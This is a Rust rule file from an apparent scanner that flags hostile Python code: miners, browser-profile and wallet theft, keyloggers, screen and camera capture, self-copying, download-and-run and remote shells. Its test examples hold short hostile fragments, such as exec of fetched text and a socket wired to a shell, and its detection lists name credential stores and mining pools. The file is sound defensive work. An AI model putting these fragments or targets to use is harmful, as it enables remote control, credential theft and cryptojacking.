//! What code is for, where that can be seen.

use super::CallRule;
use crate::scan::finding::{Category, Intent, Severity};
use crate::scan::python::source::Hit;
use crate::scan::rules::{Example, Rule};

pub(in crate::scan) const RULES: &[Rule] = &[
    PY_MINER,
    PY_BROWSER_PROFILE,
    PY_CLIPBOARD,
    PY_SCREEN,
    PY_CAMERA,
    PY_KEYLOGGER,
    PY_SELF_COPY,
    PY_DOWNLOAD_AND_RUN,
    PY_REMOTE_SHELL,
];

pub(in crate::scan) const PY_MINER: Rule = Rule {
    id: "py-miner",
    category: Category::CmdExec,
    severity: Severity::Critical,
    intent: Some(Intent::Miner),
    reason: "A miner of coins is named.",
    why: "It uses the graphics card for somebody else.",
    fix: "Do not run this node.",
    examples: &[
        Example::found(
            "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool:3333'])\n",
        ),
        Example::found("POOL = 'stratum+ssl://xmr.pool.example:443'\n"),
        Example::twin("print('xmrig')\n"),
        Example::twin("LOOKED_FOR = ['stratum+tcp://']\n"),
    ],
};

pub(in crate::scan) const PY_BROWSER_PROFILE: Rule = Rule {
    id: "py-browser-profile",
    category: Category::CredRead,
    severity: Severity::Critical,
    intent: Some(Intent::BrowserProfile),
    reason: "A browser's profile, or a wallet, is named.",
    why: "Cookies and passwords are in it.",
    fix: "Do not run this node.",
    examples: &[
        Example::found(
            "import os\nopen(os.path.join(home, 'AppData/Local/Google/Chrome/User Data/Default/Login Data'), 'rb')\n",
        ),
        Example::found("import sqlite3\nsqlite3.connect(p + '/cookies.sqlite')\n"),
        Example::twin("open('data.sqlite')\n"),
    ],
};

pub(in crate::scan) const PY_CLIPBOARD: Rule = Rule {
    id: "py-clipboard",
    category: Category::CredRead,
    severity: Severity::Medium,
    intent: Some(Intent::Clipboard),
    reason: "The clipboard is read or written.",
    why: "Passwords pass it, and an address of a wallet can be replaced in it.",
    fix: "Let the browser do it, where the user sees it.",
    examples: &[
        Example::found("import pyperclip\npyperclip.paste()\n"),
        Example::twin("import numpy as np\nnp.clip(a, 0, 1)\n"),
    ],
};

pub(in crate::scan) const PY_SCREEN: Rule = Rule {
    id: "py-screen",
    category: Category::CredRead,
    severity: Severity::Medium,
    intent: Some(Intent::Screen),
    reason: "A picture of the screen is taken.",
    why: "Everything that the owner sees is on it.",
    fix: "Accept it where the node is for that.",
    examples: &[
        Example::found("from PIL import ImageGrab\nImageGrab.grab()\n"),
        Example::found("import mss\nmss.mss().grab(m)\n"),
        Example::twin("from PIL import Image\nImage.open(p)\n"),
    ],
};

pub(in crate::scan) const PY_CAMERA: Rule = Rule {
    id: "py-camera",
    category: Category::CredRead,
    severity: Severity::Medium,
    intent: None,
    reason: "The camera or the microphone is used.",
    why: "It sees and hears the owner.",
    fix: "Accept it where the node is for that, or let the browser ask the user.",
    examples: &[
        Example::found("import cv2\ncv2.VideoCapture(0)\n"),
        Example::found("import sounddevice as sd\nsd.rec(44100)\n"),
        Example::twin("import cv2\ncv2.VideoCapture('a.mp4')\n"),
    ],
};

pub(in crate::scan) const PY_KEYLOGGER: Rule = Rule {
    id: "py-keylogger",
    category: Category::CredRead,
    severity: Severity::Critical,
    intent: Some(Intent::Keylogger),
    reason: "What is typed is recorded.",
    why: "Passwords are typed.",
    fix: "Do not run this node.",
    examples: &[
        Example::found("from pynput import keyboard\nkeyboard.Listener(on_press=f)\n"),
        Example::found("from pynput.keyboard import Listener\nListener(on_press=f).start()\n"),
        Example::twin("keyboard.Listener(on_press=f)\n"),
    ],
};

pub(in crate::scan) const PY_SELF_COPY: Rule = Rule {
    id: "py-self-copy",
    category: Category::Persistence,
    severity: Severity::High,
    intent: Some(Intent::SelfPropagation),
    reason: "The code copies its own file.",
    why: "It is how a worm gets into other folders.",
    fix: "Do not run this node.",
    examples: &[
        Example::found("import shutil\nshutil.copy(__file__, d)\n"),
        Example::twin("import shutil\nshutil.copy(p, d)\n"),
    ],
};

pub(in crate::scan) const PY_DOWNLOAD_AND_RUN: Rule = Rule {
    id: "py-download-and-run",
    category: Category::CodeExec,
    severity: Severity::Critical,
    intent: Some(Intent::DownloadAndRun),
    reason: "What comes from the network is run.",
    why: "Whoever answers decides what this process does.",
    fix: "Do not run this node.",
    examples: &[
        Example::found("import requests\nexec(requests.get(u).text)\n"),
        Example::found(
            "import urllib.request, os\ncmd = urllib.request.urlopen(u).read().decode()\nos.system(cmd)\n",
        ),
        Example::found(
            "import urllib.request, subprocess\nurllib.request.urlretrieve(u, '/tmp/x')\nsubprocess.call('/tmp/x')\n",
        ),
        Example::twin("import requests, json\njson.loads(requests.get(u).text)\n"),
    ],
};

pub(in crate::scan) const PY_REMOTE_SHELL: Rule = Rule {
    id: "py-remote-shell",
    category: Category::CmdExec,
    severity: Severity::Critical,
    intent: Some(Intent::RemoteShell),
    reason: "A shell is tied to a network connection.",
    why: "Somebody elsewhere then types commands on this machine.",
    fix: "Do not run this node.",
    examples: &[
        Example::found(
            "import os, socket\ns = socket.socket()\ns.connect(('x', 1))\nos.dup2(s.fileno(), 0)\n",
        ),
        Example::found(
            "import socket, subprocess\ns = socket.socket()\ns.connect(('x', 1))\nsubprocess.run(s.recv(9), shell=True)\n",
        ),
        Example::twin("import os\nos.dup2(1, 2)\n"),
    ],
};

pub(in crate::scan::python) const CALLS: &[CallRule] = &[
    CallRule {
        names: &[
            "pyperclip.paste",
            "pyperclip.copy",
            "win32clipboard.GetClipboardData",
            "win32clipboard.OpenClipboard",
            "PIL.ImageGrab.grabclipboard",
            "clipboard.paste",
            "tkinter.Tk().clipboard_get",
            "pyperclip.waitForNewPaste",
            "xerox.paste",
            "ImageGrab.grabclipboard",
            "pandas.read_clipboard",
            "?clipboard.paste",
            "ctypes.windll.user32.OpenClipboard",
            "ctypes.windll.user32.GetClipboardData",
            "pyperclip.waitForPaste",
        ],
        judge: |call| {
            Some(Hit::of(
                &PY_CLIPBOARD,
                format!("{}() uses the clipboard.", call.shown()),
            ))
        },
    },
    CallRule {
        names: &[
            "PIL.ImageGrab.grab",
            "ImageGrab.grab",
            "mss.mss",
            "pyautogui.screenshot",
            "pyscreenshot.grab",
            "dxcam.create",
            "d3dshot.create",
            "mss.mss().grab",
            "mss.mss().shot",
            "pyscreeze.screenshot",
            "win32gui.GetWindowDC",
            "screenshot.grab",
            "?pyautogui.screenshot",
            "mss.tools.to_png",
            "ctypes.windll.gdi32.BitBlt",
            "win32ui.CreateDCFromHandle",
        ],
        judge: |call| {
            Some(Hit::of(
                &PY_SCREEN,
                format!("{}() takes a picture of the screen.", call.shown()),
            ))
        },
    },
    CallRule {
        names: &["cv2.VideoCapture"],
        judge: |call| {
            let device = call.argument(0, "index").and_then(super::Value::as_int);
            device.map(|_| Hit::of(&PY_CAMERA, "A camera is opened."))
        },
    },
    CallRule {
        names: &[
            "sounddevice.rec",
            "sounddevice.InputStream",
            "sounddevice.RawInputStream",
            "pyaudio.PyAudio().open",
            "speech_recognition.Microphone",
        ],
        judge: |call| {
            let message = format!("{}() records the microphone.", call.shown());
            Some(Hit::of(&PY_CAMERA, message))
        },
    },
    CallRule {
        names: &[
            "pynput.keyboard.Listener",
            "pynput.mouse.Listener",
            "keyboard.on_press",
            "keyboard.hook",
            "keyboard.on_release",
            "pyHook.HookManager",
            "pyxhook.HookManager",
            "ctypes.windll.user32.SetWindowsHookExA",
            "ctypes.windll.user32.SetWindowsHookExW",
            "ctypes.windll.user32.GetAsyncKeyState",
            "keyboard.record",
            "evdev.InputDevice",
            "pynput.keyboard.GlobalHotKeys",
            "win32api.GetAsyncKeyState",
        ],
        judge: |call| {
            Some(Hit::of(
                &PY_KEYLOGGER,
                format!("{}() records what is typed.", call.shown()),
            ))
        },
    },
    CallRule {
        names: &[
            "shutil.copy",
            "shutil.copy2",
            "shutil.copyfile",
            "os.link",
            "os.symlink",
            "shutil.move",
        ],
        judge: |call| {
            let own = call
                .positional
                .first()
                .and_then(|v| v.name())
                .is_some_and(|n| n == "__file__" || n == "sys.argv[]");
            own.then(|| Hit::of(&PY_SELF_COPY, "The code copies its own file."))
        },
    },
    CallRule {
        names: &["os.dup2"],
        judge: |call| {
            let socket = call
                .positional
                .first()
                .and_then(|v| v.name())
                .is_some_and(|n| n.contains("socket") && n.ends_with(".fileno()"));
            socket.then(|| {
                Hit::of(
                    &PY_REMOTE_SHELL,
                    "A network connection becomes the input of programs.",
                )
            })
        },
    },
];

/// Whether a text holds the address of a pool, with a host.
pub(in crate::scan::python) fn names_a_pool(text: &str) -> bool {
    ["stratum+tcp://", "stratum+ssl://", "stratum2+tcp://"]
        .iter()
        .filter_map(|scheme| text.split_once(scheme))
        .any(|(_, rest)| rest.starts_with(|c: char| c.is_alphanumeric()) && rest.contains('.'))
}

/// What naming a path or a program shows; a miner that is only looked for is none.
pub(in crate::scan::python) fn judge_text(text: &str, used: bool) -> Option<Hit> {
    let plain = text.replace('\\', "/").to_ascii_lowercase();
    const MINERS: &[&str] = &[
        "xmrig",
        "stratum+tcp",
        "stratum+ssl",
        "lolminer",
        "nbminer",
        "phoenixminer",
        "t-rex -a",
        "minerd",
        "cpuminer",
        "ethminer",
        "rigel -a",
        "srbminer",
        "moneroocean",
        "supportxmr",
        "nanopool.org",
        "2miners.com",
        "nicehash.com",
        "cryptonight",
        "randomx",
    ];
    if let Some(miner) = MINERS.iter().find(|m| used && plain.contains(**m)) {
        return Some(Hit::of(
            &PY_MINER,
            format!("A miner of coins is named: {miner}."),
        ));
    }
    const PROFILES: &[&str] = &[
        "/login data",
        "/local state",
        "cookies.sqlite",
        "logins.json",
        "key4.db",
        "key3.db",
        "/network/cookies",
        "wallet.dat",
        "local storage/leveldb",
        "chrome/user data",
        "brave-browser/user data",
        "edge/user data",
        "firefox/profiles",
        ".mozilla/firefox",
        ".config/google-chrome",
        "opera stable",
        "/web data",
        "local extension settings",
        "exodus.wallet",
        "electrum/wallets",
        "atomic/local storage",
        "signons.sqlite",
        "application support/google/chrome",
        "application support/firefox",
        "metamask",
        "discord/local storage",
    ];
    let profile = PROFILES
        .iter()
        .find(|p| plain.contains(**p) || plain == p.trim_start_matches('/'))?;
    Some(Hit::of(
        &PY_BROWSER_PROFILE,
        format!(
            "A browser's profile or a wallet is named: {}.",
            profile.trim_start_matches('/')
        ),
    ))
}
